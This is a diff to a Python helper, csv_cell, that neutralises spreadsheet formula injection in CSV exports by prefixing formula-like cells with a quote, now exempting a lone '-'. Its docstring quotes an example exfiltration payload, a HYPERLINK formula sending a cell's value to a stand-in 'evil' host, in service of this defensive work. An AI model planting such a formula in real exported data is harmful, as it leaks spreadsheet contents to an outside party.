@@ -68,9 +68,10 @@ def csv_cell(value: str) -> str:
     formula (`=HYPERLINK("http://evil/?"&A1, "click")`, `@SUM(...)`, `-2+3`), is prefixed with a single quote
     (`'=HYPERLINK(...`), which the spreadsheet shows as text; any other value is returned as it is.
 
+    A lone `-` (the name of standard input, a placeholder) is left as it is: no spreadsheet computes it.
     Only for text cells (URLs, titles, file names): a number a column holds (a count, a priority) is written
     as it is, since `'-1` would no longer be a number. Quoting a cell that holds the separator, a quote or a
     line break stays the `csv` module's job."""
-    if value.startswith(_FORMULA_START):
+    if value.startswith(_FORMULA_START) and value != "-":
         return "'" + value
     return value
